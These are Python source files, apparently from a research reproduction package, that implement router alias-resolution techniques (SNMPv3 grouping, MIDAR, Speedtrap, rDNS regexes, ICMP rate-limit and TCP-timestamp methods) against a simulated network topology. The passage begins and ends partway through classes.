class SiblingDetector:
    """Rate-and-offset matching over candidate pairs."""

    oracle: TcpTimestampOracle
    window: float = 3600.0          # sampling window (virtual seconds)
    samples: int = 6
    rate_tolerance: float = 5e-4    # relative rate agreement
    offset_tolerance: float = 1.0   # seconds of clock disagreement allowed

    def estimate_rate(self, address: IPAddress, start: float) -> "tuple[float, float] | None":
        """Least-squares fit of the remote clock: (rate Hz, intercept)."""
        points = []
        for k in range(self.samples):
            now = start + k * self.window / max(1, self.samples - 1)
            value = self.oracle.probe(address, now)
            if value is None:
                return None
            points.append((now, value))
        # Unwrap the 32-bit counter before fitting.
        unwrapped = [points[0][1]]
        for (__, prev), (__, cur) in zip(points, points[1:]):
            delta = (cur - prev) % _TS_MODULUS
            unwrapped.append(unwrapped[-1] + delta)
        n = len(points)
        xs = [t for t, __ in points]
        mean_x = sum(xs) / n
        mean_y = sum(unwrapped) / n
        sxx = sum((x - mean_x) ** 2 for x in xs)
        sxy = sum((x - mean_x) * (y - mean_y) for x, y in zip(xs, unwrapped))
        if sxx == 0:
            return None
        rate = sxy / sxx
        intercept = mean_y - rate * mean_x
        return rate, intercept

    def classify_pair(
        self, v4: IPAddress, v6: IPAddress, start: float = 0.0
    ) -> "SiblingVerdict | None":
        """Classify one candidate pair; ``None`` if either side is silent."""
        fit_v4 = self.estimate_rate(v4, start)
        fit_v6 = self.estimate_rate(v6, start)
        if fit_v4 is None or fit_v6 is None:
            return None
        rate_v4, intercept_v4 = fit_v4
        rate_v6, intercept_v6 = fit_v6
        rate_delta = abs(rate_v4 - rate_v6) / max(abs(rate_v4), 1e-9)
        is_sibling = rate_delta < self.rate_tolerance
        if is_sibling:
            # Same clock also means same origin: intercepts must agree to
            # within the tolerance, measured in remote clock ticks.
            offset_seconds = abs(intercept_v4 - intercept_v6) / max(abs(rate_v4), 1e-9)
            is_sibling = offset_seconds < self.offset_tolerance
        return SiblingVerdict(
            v4=v4, v6=v6, is_sibling=is_sibling, rate_v4=rate_v4, rate_v6=rate_v6
        )

    def classify_pairs(
        self, candidates: "list[tuple[IPAddress, IPAddress]]", start: float = 0.0
    ) -> list[SiblingVerdict]:
        """Classify a candidate list, skipping silent pairs."""
        verdicts = []
        for v4, v6 in candidates:
            verdict = self.classify_pair(v4, v6, start)
            if verdict is not None:
                verdicts.append(verdict)
        return verdicts
