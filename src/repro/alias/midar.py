"""MIDAR-style IPv4 alias resolution (§5.3 comparator).

MIDAR (Keys et al., 2013) infers IPv4 aliases from the 16-bit IP-ID
counter that many router stacks share across interfaces, using velocity
estimation plus the Monotonic Bounds Test.  This module instantiates the
generic counter machinery with MIDAR's parameters: 16-bit modulus, ICMP
echo probing, and the realistic limitations the paper leans on —

* only ~a third of devices use a shared sequential counter at all
  (random or zero IP-IDs carry no alias signal);
* fast counters can wrap between samples, losing targets;
* unanswered ICMP hides further devices.

Those limitations are why the paper finds MIDAR and SNMPv3 alias sets
*complementary* rather than nested.
"""

from __future__ import annotations

from repro.alias.ipid import CounterAliasResolver, CounterOracle
from repro.alias.sets import AliasSets
from repro.compat import keyword_only_compat
from repro.net.addresses import IPAddress
from repro.topology.model import DeviceType, Topology

#: The IPv4 identification field is 16 bits.
IP_ID_MODULUS = 1 << 16


@keyword_only_compat("topology", "seed")
class MidarResolver:
    """Run MIDAR-style resolution over IPv4 candidate addresses.

    Arguments are keyword-only; the positional ``MidarResolver(topology,
    seed)`` form is deprecated but still accepted.
    """

    def __init__(self, *, topology: "Topology | None" = None,
                 seed: int = 0x41DA2) -> None:
        if topology is None:
            raise TypeError("MidarResolver requires a topology")
        self._oracle = CounterOracle(
            topology,
            modulus=IP_ID_MODULUS,
            rate_scale=1.0,
            responsive_prob={
                DeviceType.ROUTER: 0.65,
                DeviceType.SERVER: 0.60,
                DeviceType.CPE: 0.45,
                DeviceType.IOT: 0.40,
            },
            seed=seed,
        )
        self._engine = CounterAliasResolver(
            oracle=self._oracle,
            technique="midar",
            estimation_probes=5,
            estimation_spacing=10.0,
            pair_probes=4,
        )

    def resolve(self, candidates: "list[IPAddress]") -> AliasSets:
        """Infer alias sets among IPv4 candidates."""
        v4 = [a for a in candidates if a.version == 4]
        return self._engine.resolve(v4)
