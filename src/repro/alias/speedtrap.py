"""Speedtrap-style IPv6 alias resolution (§5.3 comparator).

Speedtrap (Luckie et al., 2013) elicits fragmented IPv6 responses and
reads the 32-bit fragment identification, which — like the IPv4 IP-ID —
is often drawn from one counter shared across a router's interfaces.
Fewer stacks produce fragmentable replies at all, so coverage is lower
than MIDAR's; the resolution machinery is otherwise identical with a
32-bit modulus.
"""

from __future__ import annotations

from repro.alias.ipid import CounterAliasResolver, CounterOracle
from repro.alias.sets import AliasSets
from repro.compat import keyword_only_compat
from repro.net.addresses import IPAddress
from repro.topology.model import DeviceType, Topology

#: The IPv6 fragment identification field is 32 bits.
FRAG_ID_MODULUS = 1 << 32


@keyword_only_compat("topology", "seed")
class SpeedtrapResolver:
    """Run Speedtrap-style resolution over IPv6 candidate addresses.

    Arguments are keyword-only; the positional
    ``SpeedtrapResolver(topology, seed)`` form is deprecated but still
    accepted.
    """

    def __init__(self, *, topology: "Topology | None" = None,
                 seed: int = 0x5BEED) -> None:
        if topology is None:
            raise TypeError("SpeedtrapResolver requires a topology")
        self._oracle = CounterOracle(
            topology,
            modulus=FRAG_ID_MODULUS,
            rate_scale=0.25,  # frag-ID counters advance far slower
            responsive_prob={
                DeviceType.ROUTER: 0.45,
                DeviceType.SERVER: 0.40,
                DeviceType.CPE: 0.15,
                DeviceType.IOT: 0.10,
            },
            seed=seed,
        )
        self._engine = CounterAliasResolver(
            oracle=self._oracle,
            technique="speedtrap",
            estimation_probes=5,
            estimation_spacing=20.0,
            pair_probes=4,
        )

    def resolve(self, candidates: "list[IPAddress]") -> AliasSets:
        """Infer alias sets among IPv6 candidates."""
        v6 = [a for a in candidates if a.version == 6]
        return self._engine.resolve(v6)
