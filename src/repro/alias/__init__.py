"""Alias resolution: SNMPv3 (the paper's technique) and the comparators.

* :mod:`repro.alias.sets` — the :class:`AliasSets` result type and
  ground-truth precision/recall evaluation;
* :mod:`repro.alias.snmpv3` — grouping by (engine ID, engine boots,
  binned last-reboot-time), with all eight Table 3 variants and
  dual-stack joining;
* :mod:`repro.alias.midar` — IPv4 IP-ID monotonic-bounds alias
  resolution in the style of MIDAR (§5.3's comparator);
* :mod:`repro.alias.speedtrap` — IPv6 fragment-ID alias resolution in
  the style of Speedtrap;
* :mod:`repro.alias.dns_names` — the Router Names rDNS-regex technique
  (§5.2's comparator);
* :mod:`repro.alias.compare` — exact/partial overlap metrics between two
  collections of alias sets;
* :mod:`repro.alias.ratelimit` — ICMP rate-limit alias resolution
  (Vermeulen et al., the §7.2 comparator);
* :mod:`repro.alias.apple` — APPLE-style path-length pruning (Marder);
* :mod:`repro.alias.siblings` — TCP-timestamp dual-stack sibling
  detection (Scheitle et al., the §7.3 comparator).
"""

from repro.alias.sets import AliasSets, AliasEvaluation, evaluate_against_truth
from repro.alias.snmpv3 import (
    MatchVariant,
    Snmpv3AliasResolver,
    resolve_aliases,
    resolve_dual_stack,
)
from repro.alias.compare import OverlapReport, compare_alias_sets
from repro.alias.midar import MidarResolver
from repro.alias.speedtrap import SpeedtrapResolver
from repro.alias.dns_names import RouterNamesResolver
from repro.alias.apple import PathLengthPruner
from repro.alias.ratelimit import IcmpRateLimitOracle, RateLimitResolver
from repro.alias.siblings import SiblingDetector, TcpTimestampOracle

__all__ = [
    "AliasEvaluation",
    "AliasSets",
    "MatchVariant",
    "IcmpRateLimitOracle",
    "MidarResolver",
    "OverlapReport",
    "PathLengthPruner",
    "RateLimitResolver",
    "RouterNamesResolver",
    "SiblingDetector",
    "Snmpv3AliasResolver",
    "SpeedtrapResolver",
    "TcpTimestampOracle",
    "compare_alias_sets",
    "evaluate_against_truth",
    "resolve_aliases",
    "resolve_dual_stack",
]
