"""SNMPv3 alias resolution (§5, Appendix A).

Addresses whose filtered records agree on **engine ID**, **engine boots**
and (a binned) **last reboot time** are grouped into one alias set.  The
eight variants of Table 3 differ in two dimensions:

* which scans contribute matching fields — the first scan only, or both;
* how the last reboot time is matched — exactly (integer seconds),
  rounded to tens, divided into 20-second bins, or divided and rounded.

The paper's chosen configuration is ``DIVIDE_BY_20`` over ``both`` scans,
mirroring the 10-second consistency threshold of the filtering pipeline.
Dual-stack aliases fall out of running the same grouping over the
concatenated IPv4 + IPv6 records: a router answering on both families
reports the same engine triple on every address.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Iterable

from repro.alias.sets import AliasSets
from repro.pipeline.records import ValidRecord


class MatchVariant(enum.Enum):
    """Last-reboot-time matching rules of Table 3."""

    EXACT = "exact"
    ROUND = "round"
    DIVIDE_BY_20 = "divide-20"
    DIVIDE_BY_20_ROUND = "divide-20-round"

    def key(self, last_reboot: float) -> int:
        """Map a last-reboot timestamp to its matching bucket."""
        if self is MatchVariant.EXACT:
            return int(last_reboot)
        if self is MatchVariant.ROUND:
            return int(round(last_reboot, -1))
        if self is MatchVariant.DIVIDE_BY_20:
            return int(last_reboot // 20)
        return int(round(last_reboot / 20))


@dataclass(frozen=True)
class Snmpv3AliasResolver:
    """Configurable grouping engine.

    ``variant`` picks the reboot-time rule; ``use_both_scans`` adds the
    second scan's reboot bucket (and implicitly its boots, which the
    pipeline already guarantees equal) to the matching key.
    """

    variant: MatchVariant = MatchVariant.DIVIDE_BY_20
    use_both_scans: bool = True

    def group_key(self, record: ValidRecord) -> tuple:
        key: tuple = (
            record.engine_id.raw,
            record.engine_boots,
            self.variant.key(record.last_reboot_first),
        )
        if self.use_both_scans:
            key += (self.variant.key(record.last_reboot_second),)
        return key

    def resolve(self, records: Iterable[ValidRecord]) -> AliasSets:
        """Group records into alias sets."""
        groups: dict[tuple, set] = {}
        for record in records:
            groups.setdefault(self.group_key(record), set()).add(record.address)
        label = f"snmpv3/{self.variant.value}/{'both' if self.use_both_scans else 'first'}"
        return AliasSets(
            sets=[frozenset(g) for g in groups.values()],
            technique=label,
        )


def resolve_aliases(
    records: Iterable[ValidRecord],
    variant: MatchVariant = MatchVariant.DIVIDE_BY_20,
    use_both_scans: bool = True,
) -> AliasSets:
    """One-call helper for the paper's chosen configuration."""
    return Snmpv3AliasResolver(variant=variant, use_both_scans=use_both_scans).resolve(records)


def resolve_dual_stack(
    v4_records: Iterable[ValidRecord],
    v6_records: Iterable[ValidRecord],
    variant: MatchVariant = MatchVariant.DIVIDE_BY_20,
    use_both_scans: bool = True,
) -> AliasSets:
    """Joint IPv4+IPv6 alias resolution (§5.1's final step).

    The IPv6 scans ran on different days than the IPv4 scans, so the
    derived *last reboot time* — an absolute timestamp — is the field that
    transfers across families; engine boots must also agree (a reboot
    between the family campaigns splits the device, conservatively).
    """
    resolver = Snmpv3AliasResolver(variant=variant, use_both_scans=use_both_scans)
    groups: dict[tuple, set] = {}
    for record in list(v4_records) + list(v6_records):
        # Cross-family matching cannot use the second scan's bucket: the
        # scan-2 timestamps differ by family.  Use the canonical reboot
        # bucket plus boots plus engine ID.
        key = (
            record.engine_id.raw,
            record.engine_boots,
            resolver.variant.key(record.last_reboot_first),
        )
        groups.setdefault(key, set()).add(record.address)
    return AliasSets(
        sets=[frozenset(g) for g in groups.values()],
        technique=f"snmpv3-dual/{variant.value}",
    )
