"""Router Names: rDNS-regex alias resolution (§5.2 comparator).

CAIDA's Router Names dataset (Luckie et al., 2019) groups interfaces whose
PTR records share an extracted router hostname, using per-domain-suffix
regexes learned against known aliases and kept only when their positive
predictive value reaches 0.8.  We reproduce the full method:

1. a template bank of candidate extraction regexes covering the naming
   conventions in the simulated zone;
2. per-suffix PPV scoring of every template against a *training sample*
   of known aliases (the stand-in for CAIDA's training topologies);
3. applying each suffix's accepted regex to all PTR records, grouping by
   extracted name, and coalescing groups across IPv4/IPv6 when hostnames
   match — exactly how the paper builds its dual-stack comparator.

Suffixes with unstructured naming ("flat", "opaque") never reach the PPV
bar, so their interfaces contribute nothing — one of the two reasons the
paper finds this dataset so much smaller than the SNMPv3 one (the other
being interfaces without PTR records at all).
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass

from repro.alias.sets import AliasSets
from repro.net.addresses import IPAddress
from repro.topology.datasets import RdnsZone
from repro.topology.model import Topology

#: Candidate extraction templates: each must expose one capture group —
#: the router name.
REGEX_TEMPLATES = (
    r"^[a-z]+-\d+\.([a-z]\d+)\.",     # et-3.r0012.netX.example
    r"^([a-z]\d+)-[a-z]+\d+\.",       # r0012-eth3.netX.example
    r"^([a-z]+\d+)\.",                # bare hostname
)

DEFAULT_PPV_THRESHOLD = 0.8


def _suffix_of(hostname: str) -> str:
    """The registrable suffix: the last two DNS labels (netX.example)."""
    return ".".join(hostname.split(".")[-2:])


@dataclass
class LearnedRegex:
    """A per-suffix regex that met the PPV bar."""

    suffix: str
    pattern: str
    ppv: float
    matches: int

    def extract(self, hostname: str) -> "str | None":
        match = re.match(self.pattern, hostname)
        if match is None:
            return None
        return match.group(1)


@dataclass
class RouterNamesResolver:
    """Learn per-suffix regexes, then group PTR records by router name."""

    zone: RdnsZone
    ppv_threshold: float = DEFAULT_PPV_THRESHOLD
    training_fraction: float = 0.25
    seed: int = 0xD45

    def learn(self, topology: Topology) -> dict[str, LearnedRegex]:
        """Score every template per suffix against a training sample.

        The training sample plays the role of CAIDA's ground-truth
        training aliases: a deterministic subset of devices whose true
        interface grouping is assumed known to the learner.
        """
        rng = random.Random(self.seed ^ topology.seed)
        training_devices = {
            device_id
            for device_id in topology.devices
            if rng.random() < self.training_fraction
        }
        device_of: dict[IPAddress, int] = {}
        for device_id in training_devices:
            for interface in topology.devices[device_id].interfaces:
                device_of[interface.address] = device_id

        by_suffix: dict[str, list[tuple[IPAddress, str]]] = {}
        for address, hostname in self.zone.records.items():
            suffix = _suffix_of(hostname)
            by_suffix.setdefault(suffix, []).append((address, hostname))

        learned: dict[str, LearnedRegex] = {}
        for suffix, entries in by_suffix.items():
            best: "LearnedRegex | None" = None
            for pattern in REGEX_TEMPLATES:
                ppv, matches = self._score(pattern, entries, device_of)
                if matches < 2 or ppv < self.ppv_threshold:
                    continue
                if best is None or (ppv, matches) > (best.ppv, best.matches):
                    best = LearnedRegex(suffix=suffix, pattern=pattern, ppv=ppv, matches=matches)
            if best is not None:
                learned[suffix] = best
        return learned

    @staticmethod
    def _score(
        pattern: str,
        entries: list[tuple[IPAddress, str]],
        device_of: dict[IPAddress, int],
    ) -> tuple[float, int]:
        """PPV of a template: fraction of same-name training pairs that are
        true aliases."""
        groups: dict[str, list[IPAddress]] = {}
        compiled = re.compile(pattern)
        for address, hostname in entries:
            match = compiled.match(hostname)
            if match is not None:
                groups.setdefault(match.group(1), []).append(address)
        true_pairs = 0
        total_pairs = 0
        for addresses in groups.values():
            known = [a for a in addresses if a in device_of]
            for i in range(len(known)):
                for j in range(i + 1, len(known)):
                    total_pairs += 1
                    if device_of[known[i]] == device_of[known[j]]:
                        true_pairs += 1
        if total_pairs == 0:
            return 0.0, 0
        return true_pairs / total_pairs, total_pairs

    def resolve(self, topology: Topology) -> AliasSets:
        """Apply learned regexes to the whole zone and group by name."""
        learned = self.learn(topology)
        groups: dict[tuple[str, str], set[IPAddress]] = {}
        for address, hostname in self.zone.records.items():
            suffix = _suffix_of(hostname)
            regex = learned.get(suffix)
            if regex is None:
                continue
            name = regex.extract(hostname)
            if name is None:
                continue
            # Grouping key: (suffix, router name) — hostnames coalesce
            # across IPv4 and IPv6 automatically, yielding dual-stack sets.
            groups.setdefault((suffix, name), set()).add(address)
        return AliasSets(
            sets=[frozenset(g) for g in groups.values()],
            technique="router-names",
        )
