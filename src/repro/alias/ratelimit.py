"""ICMP rate-limit alias resolution (§7.2: Vermeulen et al., PAM 2020).

Routers rate-limit the ICMP replies they originate, and the limiter is
typically *shared across interfaces*.  Probing two candidate addresses
simultaneously at a rate just under the limiter's threshold produces a
distinctive signature: if the addresses share a device, the combined
load crosses the threshold and **both** probe trains see correlated
loss; if they are distinct devices, each train stays under its own
limiter and loss stays at baseline.

:class:`IcmpRateLimitOracle` simulates the router side (token-bucket
limiter per device); :class:`RateLimitResolver` implements the
measurement: per-address baseline calibration, paired stress probing,
and a loss-correlation verdict.  As the paper notes for all prior alias
techniques, coverage is partial — devices that do not answer ICMP, or
whose limiters are generous, yield no signal.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.alias.sets import AliasSets
from repro.compat import keyword_only_compat
from repro.net.addresses import IPAddress
from repro.net.ratelimit import RateLimit, TokenBucket
from repro.topology.model import DeviceType, Topology

#: Back-compat alias: the per-device limiter is now the shared
#: :class:`repro.net.ratelimit.TokenBucket`.
_TokenBucket = TokenBucket


@keyword_only_compat("topology", "seed")
class IcmpRateLimitOracle:
    """Answers echo probes subject to each device's shared limiter.

    Arguments are keyword-only; the positional
    ``IcmpRateLimitOracle(topology, seed)`` form is deprecated but still
    accepted.
    """

    #: Common limiter configurations (replies/second).
    RATE_CLASSES = (50.0, 100.0, 200.0)

    def __init__(self, *, topology: "Topology | None" = None,
                 seed: int = 0x1C41) -> None:
        if topology is None:
            raise TypeError("IcmpRateLimitOracle requires a topology")
        self.topology = topology
        rng = random.Random(seed ^ topology.seed)
        self._buckets: dict[int, TokenBucket] = {}
        self._responsive: dict[int, bool] = {}
        for device in topology.devices.values():
            rate = rng.choice(self.RATE_CLASSES)
            self._buckets[device.device_id] = TokenBucket(
                RateLimit(rate=rate, burst=rate * 0.2), 0.0
            )
            base = 0.85 if device.device_type is DeviceType.ROUTER else 0.6
            self._responsive[device.device_id] = rng.random() < base

    def rate_of(self, address: IPAddress) -> "float | None":
        device = self.topology.device_of_address(address)
        if device is None:
            return None
        return self._buckets[device.device_id].rate

    def probe(self, address: IPAddress, now: float) -> bool:
        """One echo request; ``True`` when an echo reply comes back."""
        device = self.topology.device_of_address(address)
        if device is None or not self._responsive[device.device_id]:
            return False
        return self._buckets[device.device_id].admit(now)


@dataclass
class RateLimitResolver:
    """Calibrate, stress in pairs, and merge on correlated loss."""

    oracle: IcmpRateLimitOracle
    calibration_probes: int = 60
    stress_seconds: float = 2.0
    loss_increase_threshold: float = 0.25

    def find_limit(self, address: IPAddress, start: float = 0.0) -> "float | None":
        """Binary-search the per-address reply rate (replies/s).

        Returns ``None`` for unresponsive targets.
        """
        if not self.oracle.probe(address, start):
            return None
        low, high = 1.0, 2048.0
        t = start + 100.0
        while high / low > 1.25:
            mid = (low * high) ** 0.5
            losses = self._loss_at_rate([address], mid, t)
            t += 100.0
            if losses > 0.1:
                high = mid
            else:
                low = mid
        return (low * high) ** 0.5

    def _loss_at_rate(self, addresses: "list[IPAddress]", rate: float, start: float) -> float:
        """Probe the address group round-robin at a combined ``rate``."""
        total = int(self.stress_seconds * rate)
        if total <= 0:
            return 0.0
        lost = 0
        interval = 1.0 / rate
        for i in range(total):
            now = start + i * interval
            if not self.oracle.probe(addresses[i % len(addresses)], now):
                lost += 1
        return lost / total

    def pair_test(self, left: IPAddress, right: IPAddress, start: float = 0.0) -> bool:
        """Do the two addresses share a limiter?

        Each side is stressed *alone* at ~70% of its measured limit
        (baseline), then *together* at the same per-address rate.  Shared
        limiters see the combined 140% load and loss jumps; independent
        limiters stay clean.
        """
        limit_left = self.find_limit(left, start)
        limit_right = self.find_limit(right, start + 5_000.0)
        if limit_left is None or limit_right is None:
            return False
        rate = 0.7 * min(limit_left, limit_right)
        base_left = self._loss_at_rate([left], rate, start + 10_000.0)
        base_right = self._loss_at_rate([right], rate, start + 20_000.0)
        combined = self._loss_at_rate([left, right], 2 * rate, start + 30_000.0)
        baseline = max(base_left, base_right)
        return combined - baseline > self.loss_increase_threshold

    def resolve(self, candidates: "list[IPAddress]", start: float = 0.0) -> AliasSets:
        """Pairwise testing with union-find over limit-compatible pairs."""
        from repro.alias.ipid import _UnionFind

        limits: dict[IPAddress, float] = {}
        testable = []
        t = start
        for address in candidates:
            limit = self.find_limit(address, t)
            t += 50_000.0
            if limit is not None:
                limits[address] = limit
                testable.append(address)
        uf = _UnionFind(testable)
        for i, left in enumerate(testable):
            for right in testable[i + 1 :]:
                if uf.find(left) == uf.find(right):
                    continue
                # Sieve: shared limiters must show similar limits.
                if abs(limits[left] - limits[right]) > 0.3 * limits[left]:
                    continue
                t += 50_000.0
                if self.pair_test(left, right, t):
                    uf.union(left, right)
        groups = uf.groups()
        grouped = {a for g in groups for a in g}
        for address in candidates:
            if address not in grouped:
                groups.append(frozenset({address}))
        return AliasSets(sets=groups, technique="icmp-rate-limit")
