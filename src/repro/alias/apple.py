"""APPLE-style alias pruning by path-length estimation (§7.2: Marder 2020).

APPLE observes that two interfaces of one router sit at (nearly) the same
topological distance from any vantage point, so candidate alias pairs
whose hop distances differ sharply can be *pruned* before running an
expensive pairwise technique.  It is a precision filter, not a stand-alone
resolver — which is how this module exposes it: estimate per-address hop
distances from several vantages (via the traceroute substrate) and reject
pairs whose distance vectors disagree.

Composed with MIDAR, the pruner cuts the pair-test workload; the tests
quantify both the saved work and the preserved recall.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.net.addresses import IPAddress
from repro.topology.model import Topology
from repro.topology.traceroute import TracerouteEngine


@dataclass
class PathLengthPruner:
    """Hop-distance vectors and the pair-compatibility predicate."""

    topology: Topology
    vantage_asns: "list[int]" = field(default_factory=list)
    max_distance_delta: int = 1

    def __post_init__(self) -> None:
        if not self.vantage_asns:
            self.vantage_asns = sorted(self.topology.ases)[:5]
        self._engine = TracerouteEngine(self.topology)
        self._cache: dict[IPAddress, tuple[int, ...]] = {}

    def distance_vector(self, address: IPAddress) -> "tuple[int, ...] | None":
        """Hop count from each vantage (cached); ``None`` if untraceable."""
        if address in self._cache:
            return self._cache[address]
        distances = []
        for vantage in self.vantage_asns:
            hops = self._engine.trace(vantage, address)
            if not hops:
                return None
            distances.append(hops[-1].ttl)
        vector = tuple(distances)
        self._cache[address] = vector
        return vector

    def compatible(self, left: IPAddress, right: IPAddress) -> bool:
        """Could the pair be aliases, judged by path lengths alone?

        Unknown distances are conservatively compatible — pruning must
        never manufacture false negatives out of missing data.
        """
        dv_left = self.distance_vector(left)
        dv_right = self.distance_vector(right)
        if dv_left is None or dv_right is None:
            return True
        return all(
            abs(a - b) <= self.max_distance_delta for a, b in zip(dv_left, dv_right)
        )

    def prune_pairs(
        self, pairs: "list[tuple[IPAddress, IPAddress]]"
    ) -> "tuple[list[tuple[IPAddress, IPAddress]], int]":
        """Filter a candidate pair list; returns (kept, pruned_count)."""
        kept = [pair for pair in pairs if self.compatible(*pair)]
        return kept, len(pairs) - len(kept)
