"""Dual-stack aliasing via MAC correlation: SNMPv3 × EUI-64.

The paper resolves dual-stack aliases by matching SNMPv3 identity fields
across address families — which requires the device to answer SNMP on
*both* families.  This extension removes that requirement for one large
class of devices: when

* the IPv4 side disclosed a **MAC-format engine ID**, and
* an observed IPv6 address is **EUI-64-derived** from one of the same
  device's MACs,

the MAC itself is the join key.  No IPv6 probe needs an SNMP answer —
the hitlist's raw address strings are enough.  Matching is exact by
default: consecutive factory MACs belong to *different* devices, so
fuzzy neighbourhoods trade precision for nothing (the ablation bench
demonstrates the collapse).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.net.addresses import IPAddress
from repro.net.eui64 import mac_from_ipv6
from repro.net.mac import MacAddress
from repro.pipeline.records import ValidRecord
from repro.snmp.engine_id import EngineIdFormat
from repro.topology.model import Topology


@dataclass(frozen=True)
class MacCorrelationMatch:
    """One inferred dual-stack pairing."""

    v4_address: IPAddress
    v6_address: IPAddress
    engine_mac: MacAddress
    v6_mac: MacAddress

    @property
    def mac_distance(self) -> int:
        """Distance between the two MACs (0 = identical interface)."""
        return abs(self.engine_mac.value - self.v6_mac.value)


@dataclass
class MacCorrelator:
    """Join MAC-format engine IDs against EUI-64 IPv6 addresses.

    ``neighborhood`` is the maximum MAC distance accepted.  The default 0
    (exact match) is the sound setting: vendors hand out *consecutive*
    MACs to consecutive devices on the production line, so widening the
    neighbourhood matches sibling devices, not sibling interfaces — the
    ablation benchmark quantifies the precision collapse.
    """

    neighborhood: int = 0

    def correlate(
        self,
        v4_records: "list[ValidRecord]",
        v6_addresses: "list[IPAddress]",
    ) -> list[MacCorrelationMatch]:
        """Find all (v4, v6) pairs joined by a MAC."""
        # Index the SNMPv3 side by MAC value.
        by_mac: dict[int, list[ValidRecord]] = {}
        for record in v4_records:
            if record.engine_id.format is not EngineIdFormat.MAC:
                continue
            mac = record.engine_id.mac
            if mac is None or mac.value == 0:
                continue
            by_mac.setdefault(mac.value, []).append(record)

        matches: list[MacCorrelationMatch] = []
        for address in v6_addresses:
            v6_mac = mac_from_ipv6(address)
            if v6_mac is None:
                continue
            for candidate in range(
                v6_mac.value - self.neighborhood, v6_mac.value + self.neighborhood + 1
            ):
                for record in by_mac.get(candidate, ()):
                    matches.append(
                        MacCorrelationMatch(
                            v4_address=record.address,
                            v6_address=address,
                            engine_mac=record.engine_id.mac,
                            v6_mac=v6_mac,
                        )
                    )
        return matches


@dataclass(frozen=True)
class CorrelationEvaluation:
    """Ground-truth scoring of the correlation."""

    matches: int
    correct: int
    eui64_v6_addresses: int
    matchable_devices: int

    @property
    def precision(self) -> float:
        return self.correct / self.matches if self.matches else 1.0

    @property
    def recall(self) -> float:
        """Matched devices / devices that were matchable at all (MAC
        engine ID on v4 + EUI-64 address on v6)."""
        if self.matchable_devices == 0:
            return 1.0
        matched_devices = min(self.correct, self.matchable_devices)
        return matched_devices / self.matchable_devices


def evaluate_correlation(
    topology: Topology, matches: "list[MacCorrelationMatch]",
    v4_records: "list[ValidRecord]", v6_addresses: "list[IPAddress]",
) -> CorrelationEvaluation:
    """Score matches against device ground truth."""
    correct = 0
    matched_devices: set[int] = set()
    for match in matches:
        left = topology.device_of_address(match.v4_address)
        right = topology.device_of_address(match.v6_address)
        if left is not None and right is not None \
                and left.device_id == right.device_id:
            correct += 1
            matched_devices.add(left.device_id)

    eui64_count = sum(1 for a in v6_addresses if mac_from_ipv6(a) is not None)
    v4_devices = {
        topology.device_of_address(r.address).device_id
        for r in v4_records
        if r.engine_id.format is EngineIdFormat.MAC
        and topology.device_of_address(r.address) is not None
    }
    v6_eui_devices = {
        topology.device_of_address(a).device_id
        for a in v6_addresses
        if mac_from_ipv6(a) is not None and topology.device_of_address(a) is not None
    }
    matchable = len(v4_devices & v6_eui_devices)
    return CorrelationEvaluation(
        matches=len(matches),
        correct=correct,
        eui64_v6_addresses=eui64_count,
        matchable_devices=matchable,
    )
