"""Shared machinery for counter-based alias resolution (MIDAR/Speedtrap).

Both comparison techniques exploit the same implementation artifact: many
stacks draw the IP identification field (IPv4) or the fragment
identification (IPv6) from a **single counter shared across interfaces**.
Sampling the counter through different addresses and testing whether the
interleaved samples form one monotonically increasing (mod wrap) sequence
— the Monotonic Bounds Test (MBT) — reveals aliases.

:class:`CounterOracle` simulates the probing side: per-device counters
with configurable velocity, per-probe increments, and devices that answer
with random or zero IDs (unusable for the technique, exactly like the
majority of the real population).  :class:`CounterAliasResolver`
implements estimation, velocity sieving and pairwise MBT with union-find
merging — a faithful, if simplified, MIDAR-style engine (full MIDAR runs
multiple elimination rounds at Internet scale; our candidate sets are
small enough for the direct approach).
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass, field

from repro.alias.sets import AliasSets
from repro.net.addresses import IPAddress
from repro.topology.model import DeviceType, Topology


@dataclass
class _DeviceCounter:
    base: int
    rate: float
    random_ids: bool
    probes_seen: int = 0


class CounterOracle:
    """Answers "probe address X at time T" with an identification value.

    ``None`` means the device did not answer the probe at all (ICMP
    filtered / no fragmentable response).
    """

    def __init__(
        self,
        topology: Topology,
        modulus: int,
        rate_scale: float = 1.0,
        responsive_prob: "dict[DeviceType, float] | None" = None,
        seed: int = 0,
    ) -> None:
        self.topology = topology
        self.modulus = modulus
        self._rng = random.Random(seed ^ topology.seed)
        self._counters: dict[int, _DeviceCounter] = {}
        self._responsive: dict[int, bool] = {}
        probs = responsive_prob or {
            DeviceType.ROUTER: 0.85,
            DeviceType.SERVER: 0.75,
            DeviceType.CPE: 0.5,
            DeviceType.IOT: 0.4,
        }
        for device in topology.devices.values():
            self._responsive[device.device_id] = (
                self._rng.random() < probs.get(device.device_type, 0.5)
            )
            self._counters[device.device_id] = _DeviceCounter(
                base=self._rng.randrange(modulus),
                rate=device.ip_id_rate * rate_scale,
                random_ids=device.ip_id_random,
            )

    def probe(self, address: IPAddress, now: float) -> "int | None":
        """Sample the identification value via one address."""
        device = self.topology.device_of_address(address)
        if device is None or not self._responsive[device.device_id]:
            return None
        counter = self._counters[device.device_id]
        if counter.random_ids:
            return self._rng.randrange(self.modulus)
        if counter.rate <= 0.0:
            return 0
        counter.probes_seen += 1
        value = counter.base + counter.rate * now + counter.probes_seen
        return int(value) % self.modulus


def monotonic_bounds_test(
    samples: list[tuple[float, int]], modulus: int, max_step_fraction: float = 0.4
) -> bool:
    """Check whether time-ordered samples form one wrapping counter.

    Consecutive (mod ``modulus``) increments must each stay below
    ``max_step_fraction * modulus`` — a shared counter advances by small
    positive steps, while interleaving two unrelated counters produces at
    least one large apparent jump.
    """
    if len(samples) < 2:
        return True
    ordered = sorted(samples)
    limit = modulus * max_step_fraction
    for (t0, v0), (t1, v1) in zip(ordered, ordered[1:]):
        step = (v1 - v0) % modulus
        if step > limit:
            return False
    return True


class _UnionFind:
    def __init__(self, items: list[IPAddress]) -> None:
        self._parent = {item: item for item in items}

    def find(self, item: IPAddress) -> IPAddress:
        root = item
        while self._parent[root] != root:
            root = self._parent[root]
        while self._parent[item] != root:
            self._parent[item], item = root, self._parent[item]
        return root

